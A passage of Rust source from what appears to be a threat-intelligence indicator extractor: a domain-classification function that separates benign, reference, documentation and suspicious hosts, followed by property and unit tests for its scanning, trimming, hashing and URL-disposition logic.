/// The disposition of the domain `name` (canonical) whose registrable
/// domain is `registrable`.
fn judge_domain(name: &str, registrable: &str) -> Disposition {
    if DOCUMENTATION_DOMAINS.contains(&registrable)
        || name.ends_with(".test")
        || name.ends_with(".invalid")
    {
        return Disposition::Documentation;
    }
    // A reverse-lookup name (`84.115.243.185.in-addr.arpa`, in a resolver's
    // log or a PTR answer) names an address, not a host anyone registered:
    // context; the address itself is judged where it is written.
    if name.ends_with(".in-addr.arpa") || name.ends_with(".ip6.arpa") {
        return Disposition::Benign;
    }
    // One walk over the name's parents answers the three questions (what
    // lists the name or a parent, and what lists the name and its
    // registrable domain exactly).
    let (under, exact_name, exact) =
        Known::builtin().domain_categories_with_exact(name, registrable);
    // A service that tells a host its own address (`checkip.dyndns.org`,
    // `api.ipify.org`): malware asks it, and so does every other program.
    if under.contains(Category::IpLookup) {
        return Disposition::Benign;
    }
    // A dynamic-DNS name belongs to whoever registered it: an indicator,
    // whatever else lists its parent.
    if under.contains(Category::DynamicDns) {
        return Disposition::Indicator;
    }
    if under.contains(Category::Reference) {
        return Disposition::Reference;
    }
    // A name a customer chose under a hosting platform (a CDN endpoint, a
    // bucket, an app): whoever set it up, not the platform.
    if customer_subdomain(name) {
        return Disposition::Indicator;
    }
    // Popularity vouches for a registrable domain, not for names handed
    // out under a shared suffix (`x.github.io` has its own registrable).
    if under_any(name, host_set(&BENIGN_SET, BENIGN_DOMAINS))
        || [Category::TopDomain, Category::UrlShortener].iter().any(|&c| exact.contains(c))
        || exact_name.contains(Category::FalsePositive)
    {
        Disposition::Benign
    } else {
        Disposition::Indicator
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const MAY_HOLD_FOR_TESTS: u16 =
        F_DOT | F_BRACKET | F_NONASCII | F_COLON | F_AT | F_SLASH | F_BACKSLASH | F_DIGIT;

    /// The old entry of [`trim`]: a quick return only when both ends are
    /// letters or digits (and the end is no possessive `'s`), the full
    /// steps otherwise.
    fn trim_reference(text: &str, start: usize, end: usize) -> (usize, usize) {
        let b = text.as_bytes();
        if end > start
            && b.get(start).is_some_and(|c| c.is_ascii_alphanumeric())
            && b.get(end - 1).is_some_and(|c| c.is_ascii_alphanumeric())
            && !(end >= start + 3 && b.get(end - 2) == Some(&b'\''))
        {
            return (start, end);
        }
        trim_ends(text, start, end)
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(20000))]

        #[test]
        fn a_segment_that_holds_no_kind_yields_nothing(
            parts in proptest::collection::vec(
                prop_oneof![
                    Just("[dot]"), Just("(dot)"), Just("{dot}"), Just("[at]"), Just("[.]"),
                    Just("evil"), Just("com"), Just("T1059"), Just("CVE-2024-1234"), Just("AS13335"),
                    Just("d41d8cd98f00b204e9800998ecf8427e"), Just("1"), Just("42"), Just("a"),
                    Just(":"), Just("*"), Just("_"), Just("."), Just("="), Just("'"), Just("+"),
                    Just("#"), Just("!"), Just("?"), Just("-"), Just("("), Just(")"), Just("["),
                    Just("]"), Just("{"), Just("}"), Just("/"), Just("@"), Just("%"),
                ],
                1..8,
            )
        ) {
            let seg = parts.concat();
            let flags = seg.bytes().fold(0u16, |acc, b| acc | flags_of(b));
            if holds_no_kind(seg.as_bytes(), flags) {
                let got = Extractor::new().piece(&seg, 0, seg.len(), Some(flags));
                prop_assert!(got.is_none(), "{:?} gave {:?}", seg, got);
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(5000))]

        #[test]
        fn trim_agrees_with_its_reference(
            text in "([a-z0-9.:!?'*_=()\\[\\]{}#/\\\\@ -]|'s){0,16}",
            start in 0usize..18,
            end in 0usize..18,
        ) {
            let (start, end) = (start.min(text.len()), end.min(text.len()));
            prop_assert_eq!(trim(&text, start, end), trim_reference(&text, start, end));
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(5000))]

        #[test]
        fn find_cve_agrees_with_find_ci(
            parts in proptest::collection::vec(
                prop_oneof![
                    Just("cve-"), Just("CVE-"), Just("cVe-"), Just("cv"), Just("ve-"),
                    Just("-"), Just("v"), Just("V"), Just("c"), Just("e-"), Just("x"), Just("E"),
                    Just("\u{d6}"), Just("1"),
                ],
                0..30,
            )
        ) {
            let h = parts.concat();
            prop_assert_eq!(find_cve(h.as_bytes()), find_ci(h.as_bytes(), b"cve-"));
        }

        #[test]
        fn segment_start_agrees_with_the_byte_loop(
            parts in proptest::collection::vec(
                prop_oneof![
                    Just("word"), Just(" "), Just("\n"), Just(","), Just("a"), Just("-"),
                    Just("."), Just("1"), Just("\u{e9}"), Just("\"x"), Just("abcdefgh"),
                    Just("ab cd ef"), Just("/"), Just("\u{3002}"),
                ],
                0..30,
            ),
            from in 0usize..64,
        ) {
            let h = parts.concat();
            let from = from.min(h.len());
            prop_assert_eq!(
                next_segment_start(h.as_bytes(), from),
                segment_start_reference(h.as_bytes(), from)
            );
        }

        #[test]
        fn unbalanced_agrees_with_the_fold(h in haystack(), long in 0usize..3) {
            // Up to about 4,000 bytes: past the 255 words a lane can count.
            let h: Vec<u8> = h.iter().copied().cycle().take(h.len() * [1, 13, 60][long]).collect();
            for (open, close) in [(b'(', b')'), (b'[', b']'), (b'{', b'}'), (0xEF, 0x80)] {
                let depth =
                    h.iter().fold(0isize, |d, &c| d + isize::from(c == close) - isize::from(c == open));
                prop_assert_eq!(unbalanced(&h, open, close), depth > 0);
            }
        }

        #[test]
        fn unbalanced_counts_long_runs(closes in 0usize..4200, opens in 0usize..4200) {
            // Every lane sees a bracket in every word: past 255 words a
            // lane would overflow without the flush.
            let mut h = vec![b')'; closes];
            h.extend(std::iter::repeat_n(b'(', opens));
            prop_assert_eq!(unbalanced(&h, b'(', b')'), closes > opens);
        }

        #[test]
        fn name_start_agrees_with_the_stack(s in "[a(')=\"`.]{0,6}[a().]{0,24}") {
            // The loop `file_name` ran before.
            let rb = s.as_bytes();
            let mut from = 0;
            let mut open: Vec<usize> = Vec::new();
            for (i, &c) in rb.iter().enumerate() {
                match c {
                    b'\'' | b'"' | b'`' | b'=' => {
                        from = i + 1;
                        open.clear();
                    }
                    b'(' => open.push(i),
                    b')' => {
                        open.pop();
                    }
                    _ => {}
                }
            }
            if let Some(&p) = open.last() {
                from = p + 1;
            }
            prop_assert_eq!(name_start(rb), from);
        }

        #[test]
        fn name_hasher_is_unchanged(b in proptest::collection::vec(any::<u8>(), 0..40), s in "[a-z.-]{0,30}") {
            use std::hash::{BuildHasher, Hasher};
            // The hasher as it was: the rest copied into a zeroed word.
            fn reference(bytes: &[u8], h: &mut u64) {
                let mut add = |w: u64| *h = (h.rotate_left(5) ^ w).wrapping_mul(0x51_7c_c1_b7_27_22_0a_95);
                let mut chunks = bytes.chunks_exact(8);
                for c in chunks.by_ref() {
                    let mut w = [0u8; 8];
                    w.copy_from_slice(c);
                    add(u64::from_le_bytes(w));
                }
                let rest = chunks.remainder();
                let mut w = [0u8; 8];
                w[..rest.len()].copy_from_slice(rest);
                add(u64::from_le_bytes(w) ^ ((rest.len() as u64) << 56));
            }
            let mut old = 0u64;
            reference(&b, &mut old);
            let mut new = kyoyu_known::NameHasher::default();
            new.write(&b);
            prop_assert_eq!(new.finish(), old);
            // A `str` key: its bytes, then the 0xff byte `Hash` adds.
            let mut old = 0u64;
            reference(s.as_bytes(), &mut old);
            reference(&[0xff], &mut old);
            let built = std::hash::BuildHasherDefault::<kyoyu_known::NameHasher>::default();
            prop_assert_eq!(built.hash_one(s.as_str()), old);
        }

        #[test]
        fn slash_kind_prechecks_only_reject_what_fails(
            s in "[0-9a-zA-Z./]{0,4}(/|\\.)?[0-9]{0,3}(/(tcp|udp|sctp|TCP|Udp|x))?"
        ) {
            let b = s.as_bytes();
            if !may_be_slash_kind(b) {
                prop_assert!(s.parse::<Ipv4Cidr>().is_err() && s.parse::<PortProtocol>().is_err());
            }
            if !may_be_port_protocol(b) {
                prop_assert!(s.parse::<PortProtocol>().is_err());
            }
        }

        #[test]
        fn mac_and_host_port_prechecks_only_reject_what_fails(
            s in "[0-9a-fA-F:.-]{0,18}|([0-9a-f]{2}[:-]){5}[0-9a-f]{2}|[0-9a-f]{4}\\.[0-9a-f]{4}\\.[0-9a-f]{4}",
            h in "\\[?[a-z0-9.:]{0,12}\\]?:[0-9a-z]{0,6}",
        ) {
            if !may_be_mac(s.as_bytes()) {
                prop_assert!(s.parse::<Mac>().is_err());
            }
            for t in [&s, &h] {
                if !ends_with_port(t) {
                    prop_assert!(t.parse::<HostPort>().is_err());
                }
            }
        }

        /// `holds_no_kind`'s single slash: `piece` finds nothing either.
        #[test]
        fn a_single_slash_among_letters_is_no_piece(
            s in "[a-zA-Z!#$%&'*+=?_~()\\]}-]{0,8}/[a-zA-Z!#$%&'*+=?_~()\\]}-]{0,8}"
        ) {
            let flags = s.bytes().fold(0u16, |f, b| f | flags_of(b));
            if holds_no_kind(s.as_bytes(), flags) {
                prop_assert!(Extractor::new().piece(&s, 0, s.len(), Some(flags)).is_none());
                prop_assert!(Extractor::new().piece(&s, 0, s.len(), None).is_none());
            }
        }

        /// The scanner skips these segments without calling `piece`.
        #[test]
        fn digits_among_unmarked_punctuation_are_no_piece(s in "[0-9!#$%&')*+?\\]_}~-]{1,70}") {
            let flags = s.bytes().fold(0u16, |f, b| f | flags_of(b));
            prop_assert_eq!(flags & (MAY_HOLD_FOR_TESTS & !F_DIGIT | F_ALPHA | F_EQ), 0);
            prop_assert!(Extractor::new().piece(&s, 0, s.len(), Some(flags)).is_none());
            prop_assert!(Extractor::new().piece(&s, 0, s.len(), None).is_none());
        }
    }

    /// Bytes around the needles the searches look for, in runs long
    /// enough to cross several words.
    fn haystack() -> impl Strategy<Value = Vec<u8>> {
        proptest::collection::vec(
            prop_oneof![
                4 => Just(b'a'),
                1 => Just(b':'),
                1 => Just(b'['),
                1 => Just(b'('),
                1 => Just(b'{'),
                1 => Just(b')'),
                1 => Just(0xEF),
                1 => Just(0x80),
                1 => Just(0x00),
                1 => Just(0xFF),
                1 => any::<u8>(),
            ],
            0..70,
        )
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(5000))]

        #[test]
        fn word_searches_agree_with_byte_loops(h in haystack(), n in any::<[u8; 3]>(), pick in 0usize..3, from in 0usize..80) {
            let needles = [[b':', b'[', 0xEF], [b'[', b'(', b'{'], n][pick];
            prop_assert_eq!(find_any(&h, needles), h.iter().position(|x| needles.contains(x)));
            let from = from.min(h.len());
            prop_assert_eq!(
                find_any_from(&h, from, needles),
                h[from..].iter().position(|x| needles.contains(x)).map(|p| from + p)
            );
            let n = &h[from.min(h.len().saturating_sub(1))..][..(h.len() - from).min(3)];
            prop_assert_eq!(
                find_seq(&h, n),
                if n.is_empty() { None } else { h.windows(n.len()).position(|w| w == n) }
            );
            for x in needles {
                prop_assert_eq!(count_byte(&h, x), h.iter().filter(|&&c| c == x).count());
                prop_assert_eq!(
                    find_byte_from(&h, from, x),
                    h[from..].iter().position(|&c| c == x).map(|p| from + p)
                );
            }
        }

        #[test]
        fn lower_key_is_packed_lower_case(b in proptest::collection::vec(any::<u8>(), 0..20)) {
            prop_assert_eq!(lower_key(&b), packed(&b, true, 16));
            if b.len() <= 15 {
                prop_assert_eq!(lower_key(&b) | (b.len() as u128), ext_key(&b, true));
            }
        }

        #[test]
        fn has_changelog_agrees_with_the_windows(p in "([/a-z]|[cC]|[hH]ange[lL]og|ChangeLo|/changelog){0,12}") {
            let windows = p.as_bytes().windows(9).any(|w| w.eq_ignore_ascii_case(b"changelog"));
            prop_assert_eq!(has_changelog(p.as_bytes()), windows);
        }

        #[test]
        fn lower_key_of_words(w in "[a-zA-Z0-9_.-]{0,17}") {
            prop_assert_eq!(lower_key(w.as_bytes()), packed(w.as_bytes(), true, 16));
        }
    }

    /// `dotted` skips the name parse when the last label is one ASCII
    /// byte.
    /// The disposition of a URL as it was worked out before [`HostFacts`]:
    /// every rule in one pass over the host and path.
    fn url_disposition_reference(u: &Url) -> Disposition {
        let host = u.host().unwrap_or_default();
        if under_any(host, host_set(&REFERENCE_SET, REFERENCE_HOSTS)) {
            return Disposition::Reference;
        }
        if let Ok(a) = parse_ipv4(host) {
            return disposition(&Indicator::Ipv4(a.into()));
        }
        if INTERNAL_SUFFIXES.iter().any(|x| host.ends_with(x)) {
            return Disposition::Internal;
        }
        let Some(d) = DomainParts::parse_quiet(host) else { return Disposition::Indicator };
        let path = u.path();
        let reference_like = {
            let file = path.rsplit('/').next().unwrap_or_default();
            let ext = file.rsplit_once('.').map(|(_, e)| e).unwrap_or_default();
            let page = ext.is_empty()
                || ["html", "htm", "php", "aspx", "asp", "jsp", "shtml", "md", "pdf"]
                    .iter()
                    .any(|p| p.eq_ignore_ascii_case(ext));
            page && d.registrable() != d.public_suffix()
                && (reference_host(&d) || reference_path(path))
        };
        match domain_disposition(d.as_str(), d.registrable()) {
            Disposition::Benign | Disposition::Reference
                if path != "/" && is_user_content(host, path) =>
            {
                Disposition::Indicator
            }
            Disposition::Indicator if reference_like => Disposition::Reference,
            other => other,
        }
    }

    #[test]
    fn host_facts_keep_url_dispositions() {
        let hosts = [
            "attack.mitre.org",
            "github.com",
            "raw.githubusercontent.com",
            "gist.github.com",
            "www.welivesecurity.com",
            "bit.ly",
            "pastebin.com",
            "bucket.s3.amazonaws.com",
            "s3-eu-west-1.amazonaws.com",
            "blog.example-vendor.com",
            "support.microsoft.com",
            "www.cisa.gov",
            "www.nisc.go.jp",
            "evil-cdn.net",
            "update.evil-cdn.net",
            "github.io",
            "x.github.io",
            "203.0.113.7",
            "8.8.8.8",
            "10.0.0.1",
            "[2001:db8::1]",
            "intranet.local",
            "corp.internal",
            "example.com",
            "test.test",
            "localhost",
            "gitlab.com",
            "bitbucket.org",
            "docs.google.com",
            "drive.google.com",
            "learn.microsoft.com",
            "xn--r8jz45g.jp",
        ];
        let paths = [
            "",
            "/",
            "/a",
            "/gate.php",
            "/x.exe",
            "/releases/download/v1/a.zip",
            "/u/raw/x",
            "/-/raw/main/a.ps1",
            "/psirt/2024",
            "/advisories/GHSA-1",
            "/CHANGELOG.md",
            "/security-advisories/x.html",
            "/index.HTML",
            "/a.pdf?x=1",
        ];
        for h in hosts {
            for p in paths {
                let s = format!("https://{h}{p}");
                let Ok(u) = s.parse::<Url>() else { continue };
                // Twice: worked out, then remembered.
                for _ in 0..2 {
                    assert_eq!(url_disposition(&u), url_disposition_reference(&u), "{s}");
                }
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(20000))]

        /// Without a `.`, the spelled-out marker is the only bracketed dot
        /// [`bracket_markers`] finds.
        #[test]
        fn spelled_dot_is_the_dot_marker_without_a_dot(
            s in "([\\[({\\])}]|[dD][oO][tT]|[dDoOtTaA:/@x]){0,12}"
        ) {
            prop_assert_eq!(has_spelled_dot(s.as_bytes()), bracket_markers(s.as_bytes()).dot);
        }
    }

    #[test]
    fn no_domain_ends_in_a_one_byte_label() {
        for b in 0x20..0x80u8 {
            let c = char::from(b);
            for name in [format!("e.{c}"), format!("evil-host.example.{c}"), format!("例え.{c}")]
            {
                assert!(Domain::parse_quiet(&name).is_none(), "{name:?}");
            }
        }
    }

    /// The scanner's eight-byte loops look bytes up in pairs.
    #[test]
    fn pair_tables_are_the_byte_tables_ored() {
        for pair in 0..=u16::MAX {
            let [a, b] = pair.to_le_bytes();
            assert_eq!(pair_flags(pair), flags_of(a) | flags_of(b), "{pair:#x}");
            let bits =
                |b: u8| u16::from(class_of(b) & INTERESTING != 0) | u16::from(is_sep(b)) << 2;
            assert_eq!(pair_scan(pair), bits(a) | bits(b) << 1, "{pair:#x}");
        }
    }

    /// The segment start as the scanner found it before [`PAIR_SCAN`]:
    /// the first interesting byte, then back to the last separator.
    fn segment_start_reference(bytes: &[u8], from: usize) -> usize {
        let rest = bytes.get(from..).unwrap_or_default();
        let at =
            from + rest.iter().position(|&b| class_of(b) & INTERESTING != 0).unwrap_or(rest.len());
        let before = bytes.get(from..at).unwrap_or_default();
        before.iter().rposition(|&b| is_sep(b)).map_or(from, |p| from + p + 1)
    }

    #[test]
    fn segment_starts_in_prose() {
        let t = b"plain words, then evil.com and more words";
        assert_eq!(next_segment_start(t, 0), 18);
        assert_eq!(next_segment_start(t, 19), 19);
        assert_eq!(next_segment_start(t, 26), 36);
        assert_eq!(next_segment_start(b"ab cd", 0), 3);
        assert_eq!(next_segment_start(b"", 0), 0);
        assert_eq!(next_segment_start(b"abcdefghijklmnop qrstuvwxyz 1", 0), 28);
        assert_eq!(next_segment_start(b"abcdefgh ijklmnopqrstuvwxyz1", 0), 9);
    }

    /// The scanner's segment loop relies on it: one flag test tells the
    /// common byte from a separator or the start of a character.
    #[test]
    fn only_non_ascii_bytes_have_the_non_ascii_flag() {
        for b in 0..=255u8 {
            assert_eq!(flags_of(b) & F_NONASCII != 0, b >= 0x80, "{b:#x}");
            assert!(b < 0x80 || flags_of(b) & F_SEP == 0, "{b:#x}");
        }
    }

    #[test]
    fn word_keys_cover_the_lists() {
        for (list, keys) in [(CODE_OBJECTS, &CODE_OBJECT_KEYS[..]), (AV_WORDS, &AV_WORD_KEYS[..])] {
            for w in list {
                assert!(w.len() <= 16 && *w == w.to_ascii_lowercase() && !w.contains('\0'), "{w}");
                assert!(is_listed_word(keys, w) && is_listed_word(keys, w.to_ascii_uppercase()));
                assert!(
                    !is_listed_word(keys, format!("{w}x")) || list.contains(&&*format!("{w}x"))
                );
            }
        }
        assert!(!is_listed_word(&AV_WORD_KEYS, "trojandownloaderx"));
        assert!(is_listed_word(&AV_WORD_KEYS, "TrojanDownloader"));
    }

    #[test]
    fn extension_tlds_are_the_extensions_that_are_top_level_domains() {
        let tlds: Vec<&str> = FILE_EXTENSIONS
            .iter()
            .copied()
            .filter(|e| psl::suffix(e.as_bytes()).is_some_and(|s| s.is_known()))
            .collect();
        assert_eq!(tlds, EXTENSION_TLDS, "EXTENSION_TLDS must list these, in this order");
        for e in FILE_EXTENSIONS {
            let tld = tlds.contains(e);
            assert_eq!(is_non_tld_extension(e.as_bytes()), !tld, "{e}");
            assert_eq!(is_non_tld_extension(e.to_ascii_uppercase().as_bytes()), !tld, "{e}");
        }
        for miss in ["", "ex", "exee", "e", "zipx", "0123456789abcdef", "library-msx"] {
            assert_eq!(extension_flags(miss.as_bytes()), 0, "{miss}");
        }
    }

    #[test]
    fn under_any_is_same_or_subdomain() {
        let hosts = [
            "attack.mitre.org",
            "x.attack.mitre.org",
            "mitre.org",
            "xattack.mitre.org",
            "github.com",
            "gist.github.com",
            "github.com.evil",
            "com",
            "",
            ".github.com",
            "a..github.com",
        ];
        for list in [REFERENCE_HOSTS, BENIGN_DOMAINS] {
            let set: HostSet = list.iter().copied().collect();
            for h in hosts {
                assert_eq!(
                    under_any(h, &set),
                    list.iter().any(|p| is_same_or_subdomain(h, p)),
                    "{h}"
                );
            }
        }
    }

    #[test]
    fn extension_keys_cover_the_list() {
        for ext in FILE_EXTENSIONS {
            assert!(ext.len() <= 15 && *ext == ext.to_ascii_lowercase(), "{ext}");
            assert!(
                is_file_extension(ext.as_bytes())
                    && is_file_extension(ext.to_ascii_uppercase().as_bytes())
            );
        }
        for miss in ["", "ex", "exe1", "exe\0", "zipx", "library-ms-x", "0123456789abcdefg"] {
            assert!(!is_file_extension(miss.as_bytes()), "{miss}");
        }
    }
}
